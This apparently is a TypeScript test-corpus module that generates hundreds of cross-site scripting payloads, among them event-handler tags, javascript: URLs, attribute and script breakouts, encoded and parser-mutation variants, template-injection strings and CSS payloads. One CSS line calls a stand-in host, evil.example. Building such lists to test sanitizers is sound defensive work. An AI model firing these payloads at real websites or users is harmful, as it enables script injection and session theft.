/** What attackers write where words belong, by families: each part with each, where they go together. */
export const payloads = (): readonly string[] => [
  ...new Set([
    ...handlers(),
    ...addresses(),
    ...breakouts(),
    ...encoded(),
    ...mutations(),
    ...templates(),
    ...styles(),
  ]),
]

const call = 'alert(9)'

const handlers = (): readonly string[] => {
  const elements = [
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'audio src=x',
    'input autofocus',
    'details open',
    'iframe',
  ]
  const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart', 'onpointerenter']
  const quotes = ['', '"', "'"]
  return elements.flatMap((element, at) =>
    events.map((event, index) => {
      const quote = quotes[(at + index) % quotes.length] ?? ''
      return `<${element} ${event}=${quote}${call}${quote}>`
    }),
  )
}

const addresses = (): readonly string[] => {
  const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:', 'vbscript:', 'data:text/html,']
  const shapes = [
    (url: string) => `<a href="${url}">go</a>`,
    (url: string) => `<form action="${url}"><button>go</button></form>`,
    (url: string) => `[go](${url})`,
    (url: string) => url,
    (url: string) => `<iframe src='${url}'></iframe>`,
    (url: string) => `<base href="${url}//">`,
  ]
  return schemes.flatMap((scheme) =>
    shapes.map((shape) => shape(scheme.startsWith('data') ? `${scheme}<script>${call}</script>` : `${scheme}${call}`)),
  )
}

/** Out of an attribute, a script of JSON, a comment, a title, a template literal. */
const breakouts = (): readonly string[] => {
  const doors = [
    '"',
    "'",
    '`',
    '">',
    "'>",
    '</script>',
    '</title>',
    '</textarea>',
    '</style>',
    '-->',
    ']]>',
    '\\"',
    '"}}',
    '\u2028',
  ]
  const rooms = [
    `<script>${call}</script>`,
    `<img src=x onerror=${call}>`,
    ` autofocus onfocus=${call} x=`,
    `;${call}//`,
  ]
  return doors.flatMap((door) => rooms.map((room) => door + room))
}

const encoded = (): readonly string[] => {
  const script = `<script>${call}</script>`
  const each = (write: (code: number) => string) =>
    [...script].map((letter) => write(letter.codePointAt(0) ?? 0)).join('')
  return [
    each((code) => `&#${code};`).slice(0, 95),
    script.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    script.replaceAll('<', '\\u003c'),
    script.replaceAll('<', '\\x3c'),
    encodeURIComponent(script),
    script.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
    script.replaceAll('<', '\u226e'),
    `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
    `<scr\u0000ipt>${call}</script>`,
    `<scr<script>ipt>${call}</scr</script>ipt>`,
    `<\u017fcript>${call}</\u017fcript>`,
    `<script\u000c>${call}</script\u000c>`,
    `<SCRIPT/x>${call}</SCRIPT/x>`,
    `\u202e<script>${call}</script>\u202c`,
    `\ufeff<script>${call}</script>`,
  ]
}

/** What a parser writes anew in another meaning. */
const mutations = (): readonly string[] =>
  ['noscript', 'style', 'title', 'textarea', 'xmp', 'noembed', 'template', 'math', 'select', 'table'].flatMap(
    (outer) => [
      `<${outer}><p title="</${outer}><img src=x onerror=${call}>">`,
      `<svg><${outer}><!--</${outer}><img src=x onerror=${call}>-->`,
      `<math><mtext><${outer}><mglyph><style><img src=x onerror=${call}>`,
    ],
  )

const templates = (): readonly string[] => [
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `{%raw%}${call}{%endraw%}`,
  `{name, select, other {<b onclick=${call}>x</b>}}`,
  `<template><script>${call}</script></template>`,
  `<div v-html="'<img src=x onerror=${call}>'">`,
  `<svg><script href="data:,${call}"/></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${call}>#x">`,
  `<math href="javascript:${call}">x</math>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<link rel=stylesheet href="data:text/css,*{color:red}">`,
  `<script src="data:,${call}"></script>`,
  `<script type=module>import 'data:text/javascript,${call}'</script>`,
]

const styles = (): readonly string[] => [
  `<style>@import 'javascript:${call}';</style>`,
  `<div style="background:url(javascript:${call})">`,
  `<p style="animation:x" onanimationend=${call}>`,
  `<style>*{background:url('https://evil.example')}</style>`,
  `</style><script>${call}</script>`,
  `<b style="position:fixed;inset:0;font-size:99vw">x</b>`,
]
